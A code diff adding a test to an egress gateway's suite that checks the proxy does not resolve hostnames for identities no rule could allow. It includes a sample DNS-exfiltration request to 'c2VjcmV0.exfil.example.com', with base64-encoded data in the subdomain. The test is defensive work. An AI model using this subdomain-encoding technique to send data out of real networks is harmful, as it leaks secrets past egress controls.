@@ -4,6 +4,7 @@ import { createHash } from 'node:crypto';
 import type { Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, describe, it } from 'node:test';
+import { type RuntimeEvent, subscribeRuntimeEvents } from '../../src/core/runtime-event.ts';
 import { startEchoServer } from '../../src/devtools/echo-server.ts';
 import { curlViaGateway } from '../helpers/curl.ts';
 import { startTestGateway, type TestGateway } from '../helpers/test-gateway.ts';
@@ -187,6 +188,39 @@ describe('connect mode (HTTPS forward proxy)', () => {
       ['-p', '-v'],
     );
     assert.match(result.stderr, /< HTTP\/1\.1 403/);
+  });
+
+  it('never resolves a name for an identity that no rule could allow (issue 9 item 3: DNS exfiltration)', async () => {
+    const lookups: RuntimeEvent[] = [];
+    const unsubscribe = subscribeRuntimeEvents((event) => lookups.push(event));
+    try {
+      // Positive control: an identity the rules could allow makes the gateway look the name up.
+      const allowed = await curlViaGateway(
+        gw.port('egress'),
+        bookinfo,
+        pki.rootPath,
+        `http://control-lookup.example.com:${echoPort}/`,
+        ['-p', '-v'],
+      );
+      assert.match(allowed.stderr, /< HTTP\/1\.1 502/);
+      assert.equal(lookups.filter((e) => e.outcome !== 'static').length, 1, 'the allowed name was looked up');
+      const denied = await curlViaGateway(
+        gw.port('egress'),
+        other,
+        pki.rootPath,
+        `http://c2VjcmV0.exfil.example.com:${echoPort}/`,
+        ['-p', '-v'],
+      );
+      assert.match(denied.stderr, /< HTTP\/1\.1 403/);
+      const record = await gw.waitForRecord(
+        (r) => r.action === 'egress-rejected' && r.destination?.domain === 'c2vjcmv0.exfil.example.com',
+      );
+      assert.equal(record.code, 'EGW_POLICY_DENIED');
+      assert.equal(record.destination?.ip, undefined);
+      assert.equal(lookups.filter((e) => e.outcome !== 'static').length, 1, 'no lookup for the denied identity');
+    } finally {
+      unsubscribe();
+    }
   });
 
   it('answers 502 with connection_refused when the upstream port is closed', async () => {
